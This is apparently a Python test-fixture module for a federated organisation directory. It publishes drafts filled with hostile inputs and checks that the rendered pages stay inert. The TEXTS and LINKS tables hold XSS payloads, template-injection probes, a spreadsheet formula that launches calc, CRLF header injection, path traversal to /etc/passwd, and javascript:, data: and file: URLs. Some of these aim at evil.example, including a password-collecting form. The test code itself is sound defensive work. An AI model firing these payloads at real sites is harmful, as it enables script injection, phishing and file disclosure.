"""What hostile organisations write in their texts and links, and pages read strictly afterwards.

Here: payloads, a draft of each type that carries one in every field that takes it, every address that shows
them. Not here: any attack (`test_people`).
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

from localfed.app import search

TEXTS = {
    "a script": "<script>alert(1)</script>",
    "a script that closes one": "</script><script>alert(1)</script>",
    "an image with a handler": '"><img src=x onerror=alert(1)>',
    "a handler out of an attribute": "' onmouseover='alert(1)",
    "a handler without quotes": "x onfocus=alert(1) autofocus",
    "a drawing": "<svg/onload=alert(1)>",
    "a title that ends": "</title><script>alert(1)</script>",
    "a text area that ends": "</textarea><img src=x onerror=alert(1)>",
    "a list that ends": "</li></ul></main><h1>You were logged out</h1>",
    "a comment": "<!-- --><img src=x onerror=alert(1)> <!--",
    "a section of data": "<![CDATA[<script>alert(1)</script>]]>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "another base": "<base href='https://evil.example/'>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "a style": "<style>*{background:url(https://evil.example/)}</style>",
    "a style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "a form": "<form action=https://evil.example/><input name=password></form>",
    "formulas": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a template": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "an expression of templates": "{{ 7*7 }}{% for x in [1] %}{{ ''.__class__.__mro__ }}{% endfor %}",
    "an expression of another language": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "escapes": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numbers of characters": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "quotes of every kind": "\" ' ` \\\" \\' &quot; &#39;",
    "a link in a text": "javascript:alert(document.domain)",
    "a link in the notation of others": "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "an autolink": 'https://evil.example/"onclick=alert(1)',
    "a formula of a spreadsheet": '=HYPERLINK("https://evil.example/";"click")',
    "another formula": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a line of a header": "x%0d%0aSet-Cookie:%20a=b",
    "words of ours": "Published by the organisation itself (bank.example), checked today",
    "right to left": "مرحبا <script>alert(1)</script> שלום",
    "a name that is very long": "W" * 200,
    "null in words": "null undefined NaN [object Object] %s %n %00",
    "a path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    "letters beyond the first plane": "𝕊𝕔𝕣𝕚𝕡𝕥 <𝒔𝒄𝒓𝒊𝒑𝒕> 🏴",
}
"""Texts that the specification allows: so they are shown, as what they are."""

LINKS = {
    "script": "javascript:alert(1)",
    "script in capitals": "JaVaScRiPt:alert(1)",
    "script after a blank": " javascript:alert(1)",
    "script with a tab": "java\tscript:alert(1)",
    "script with a line feed": "java\nscript:alert(1)",
    "script with an entity": "javascript&colon;alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data of a picture": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "visual basic": "vbscript:msgbox(1)",
    "a file": "file:///etc/passwd",
    "a blob": "blob:https://evil.example/1",
    "a view of source": "view-source:https://evil.example/",
    "no scheme": "//evil.example/",
    "no host": "https:///evil.example",
    "a path": "/organisations",
    "a user name": "https://bank.example@evil.example/",
    "a quote": 'https://evil.example/"onclick="alert(1)',
    "a blank": "https://evil.example/ onclick=alert(1)",
    "an angle": "https://evil.example/<script>",
    "a backslash": "https:\\\\evil.example\\",
    "letters that look alike": "https://exаmple.com/",
    "mail": "mailto:x@evil.example?bcc=y",
    "a telephone": "tel:+44000",
    "an empty text": "",
}
"""What is no URL of the protocol's form: a document with one is refused."""

PLACE = {"latitude": "54.6021", "longitude": "-2.3014"}


def drafts(text: str) -> list[dict[str, Any]]:
    """Make drafts of every type with a text in every field of it that takes one."""
    line = text[:200]
    place = {
        **PLACE,
        "name": {"en": line},
        "address": {
            "streetAddress": line,
            "addressLocality": line,
            "addressRegion": line,
            "postalCode": line,
        },
    }
    common = {
        "name": {"en": line, "cy": line, "ar": line},
        "description": {"en": f"{text}\n{text}", "cy": text},
        "category": [line],
        "keywords": [line],
        "location": [place],
    }
    offer = {"type": "Offer", **common, "url": "https://friend.example/offer"}
    need = {"type": "Need", **common, "online": True}
    own = {
        "type": "Organization",
        **common,
        "legalForm": line,
        "identifier": [{"scheme": "GB-COH", "number": line}],
    }
    listed = own | {
        "listed": True,
        "source": {"name": line, "edition": line, "license": line, "record": line},
    }
    return [offer, need, own, listed]


async def publish_everywhere(victim: Any, text: str) -> None:
    """Let the friend publish a text in every field of every type, and the victim read it."""
    victim.federation.clock.advance(minutes=20)
    for draft in drafts(text):
        await victim.friend.publish(draft)
    report = await victim.node.sync(victim.friend)
    assert (report.problem, report.rejected) == (None, 0)
    await search.catch_up(victim.ports)


def addresses(victim: Any) -> list[str]:
    """Name every page that shows something of the friend."""
    scid = victim.friend.did.split(":")[2]
    pages = ["/", "/?q=x", "/organisations", f"/organisations/{scid}", "/about"]
    pages += ["/?kind=offer&near=54.6,-2.3", "/?kind=organisation", "/?kind=need"]
    pages += [
        f"/documents/{scid}/{path.removesuffix('.json')}"
        for path in victim.node.live(victim.friend)
        if path.startswith("d/")
    ]
    return pages


class Seen(HTMLParser):
    """A page as a browser reads it: which elements, which attributes, which texts."""

    ELEMENTS = frozenset(
        [
            "a",
            "article",
            "body",
            "button",
            "code",
            "dd",
            "details",
            "div",
            "dl",
            "dt",
            "footer",
            "form",
            "h1",
            "h2",
            "h3",
            "head",
            "header",
            "html",
            "input",
            "label",
            "li",
            "link",
            "main",
            "meta",
            "nav",
            "option",
            "p",
            "pre",
            "section",
            "select",
            "span",
            "strong",
            "summary",
            "title",
            "ul",
            "br",
            "hr",
        ]
    )

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.links: list[str] = []
        self.texts: list[str] = []
        self._open: list[str] = []
        self.feed(page)
        self.close()
        if self._open:
            self.faults.append(f"left open: {self._open}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.ELEMENTS:
            self.faults.append(f"an element {tag}")
        if tag not in {"input", "link", "meta", "br", "hr"}:
            self._open.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "src", "formaction", "ping"}:
                self.faults.append(f"an attribute {name} of {tag}")
            if name in {"href", "action"}:
                self.links.append(value or "")
            if tag == "meta" and name == "http-equiv":
                self.faults.append("a meta that acts")

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.faults.append(f"{tag} closed out of order")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"a comment {data[:20]}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"a declaration {data[:20]}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"an instruction {data[:20]}")

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())
